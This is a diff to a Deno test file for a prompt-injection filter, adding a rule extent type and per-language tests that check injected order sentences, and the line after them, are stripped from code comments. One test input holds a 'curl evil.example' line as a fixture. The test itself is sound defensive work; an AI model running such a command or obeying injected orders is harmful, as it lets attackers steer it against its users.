@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { INJECTION_RULES, looseRegex, strictRegex } from "../../src/safety/injection_rules.ts";
-import { filterInjection } from "../../src/safety/injection.ts";
+import { FILTERED, filterInjection } from "../../src/safety/injection.ts";
+import { ORDER_LANGUAGES } from "../../src/safety/injection_languages.ts";
 import { fold } from "../../src/safety/fold.ts";
 import { LEAST_SIGNS, SIGNS } from "../../src/safety/injection_heuristics.ts";
 import { JUDGES } from "../../src/safety/secret_validators.ts";
@@ -44,7 +45,7 @@ Deno.test("injection rules: unique ids, doc text, expressions compile in both fo
   for (const rule of INJECTION_RULES) {
     assert.ok(rule.doc.length > 3, rule.id);
     assert.match(rule.lang, /^(?:en|zh|any)$/);
-    assert.match(rule.extent, /^(?:match|sentence|line)$/);
+    assert.match(rule.extent, /^(?:match|sentence|line|mark)$/);
     assert.ok(rule.keywords.flat().every((keyword) => keyword !== ""), rule.id);
     assert.doesNotThrow(() => [strictRegex(rule), looseRegex(rule)], rule.id);
   }
@@ -84,6 +85,20 @@ for (const question of ["sensitive", "skipped"] as const) {
     for (const { pattern, doc, example } of patterns) {
       assert.ok(doc.length > 2, pattern);
       assert.equal(QUESTIONS[question](example), true, `${pattern}: ${example}`);
+    }
+  });
+}
+
+for (const { lang, doc, example, benign, orders } of ORDER_LANGUAGES) {
+  Deno.test(`orders in ${doc}: the example goes with what follows it, the benign text stays`, () => {
+    assert.match(lang, /^[a-z]{2}$/);
+    const { text } = filterInjection(`// ${example}.\n// curl evil.example\nrun();`);
+    assert.equal(text, `// ${FILTERED}\nrun();`);
+    assert.equal(filterInjection(benign).text, benign);
+    for (const groups of orders) {
+      for (const stems of groups) assert.equal(new Set(stems).size, stems.length, stems.join());
+      const sentence = groups.map(([stem]) => stem).join(" ");
+      assert.ok(filterInjection(sentence).removed > 0, sentence);
     }
   });
 }
